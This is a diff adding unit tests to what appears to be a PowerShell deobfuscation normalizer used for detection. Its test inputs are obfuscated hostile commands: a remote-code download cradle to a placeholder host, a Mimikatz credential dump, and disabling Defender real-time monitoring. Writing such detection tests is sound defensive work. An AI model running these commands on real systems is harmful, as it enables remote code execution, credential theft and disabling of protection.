@@ -177,6 +177,13 @@ class CommandLineNormalizerTest {
         // in a command line
         assertEquals("powershell -command &(set-mppreference) -disablerealtimemonitoring 1",
                 n("powershell -c \"&('{0}{1}' -f 'Set-Mp','Preference') -DisableRealtimeMonitoring 1\""));
+        // a reversed literal, and replaces on literals (the method, and the operator with a plain pattern)
+        assertEquals("iex (new-object net.webclient).(downloadstring -join )(http://x/a)",
+                ScriptBlockNormalizer.normalize("iex (New-Object Net.WebClient).('gnirtSdaolnwoD'[-1..-14] -join '')('http://x/a')"));
+        assertEquals("&(invoke-mimikatz) -dumpcreds", ScriptBlockNormalizer.normalize("&('Invo~~ke-Mimi~~katz'.Replace('~~','')) -DumpCreds"));
+        assertEquals("(iex)", ScriptBlockNormalizer.normalize("('IQQEX' -replace 'qq','')"));
+        // a regular expression pattern stays: what it matches is not read here
+        assertEquals("(a.b -replace .,)", ScriptBlockNormalizer.normalize("('a.b' -replace '.','')"));
         // other formats stay as written
         assertEquals("{0:n2} -f 3.14159", ScriptBlockNormalizer.normalize("'{0:N2}' -f 3.14159"));
         assertEquals("{3}{0} -f a,b", ScriptBlockNormalizer.normalize("'{3}{0}' -f 'a','b'"));
